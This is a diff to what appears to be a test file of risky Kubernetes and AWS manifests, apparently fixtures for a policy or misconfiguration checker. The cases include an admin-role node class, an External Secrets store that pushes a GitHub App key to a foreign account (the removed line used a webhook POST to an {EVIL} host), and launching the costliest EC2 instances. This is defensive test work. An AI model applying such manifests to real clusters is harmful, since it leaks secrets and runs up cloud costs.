@@ -394,6 +394,7 @@ OPENED = (
             "EC2NodeClass",
             {
                 "role": "admin",
+                "amiFamily": "AL2023",
                 "amiSelectorTerms": [{"id": "ami-0123456789abcdef0"}],
                 "subnetSelectorTerms": [{"tags": {"kubernetes.io/role/elb": "1"}}],
                 "securityGroupSelectorTerms": [{"name": "default"}],
@@ -420,12 +421,16 @@ CREDENTIALS = (
     ),
     case(
         "secret-pushed-out",
-        "lets the External Secrets Operator send the key of the GitHub App to another's server",
+        "lets the External Secrets Operator send the key of the GitHub App to another account",
         "app-key-in-a-file",
         thing(
             "external-secrets.io/v1",
             "SecretStore",
-            {"provider": {"webhook": {"url": f"{EVIL}/{{{{ .remoteRef.remoteKey }}}}", "method": "POST", "result": {}}}},
+            {
+                "provider": {
+                    "aws": {"service": "SecretsManager", "region": "us-west-2", "role": f"arn:aws:iam::{FOREIGN}:role/secrets"}
+                }
+            },
             "outside",
             OURS,
         ),
@@ -479,13 +484,13 @@ SUPPLIED = (
         ),
     ),
     case(
-        "machines-by-a-controller",
-        "starts 100 of the most expensive machines by a controller of AWS in the cluster",
+        "machine-by-a-controller",
+        "starts the most expensive machine by a controller of AWS in the cluster",
         "single-machine",
         thing(
             "ec2.services.k8s.aws/v1alpha1",
             "Instance",
-            {"imageID": "ami-0123456789abcdef0", "instanceType": "p5.48xlarge", "minCount": 100, "maxCount": 100},
+            {"imageID": "ami-0123456789abcdef0", "instanceType": "p5.48xlarge", "subnetID": "subnet-0123456789abcdef0"},
         ),
     ),
     case(
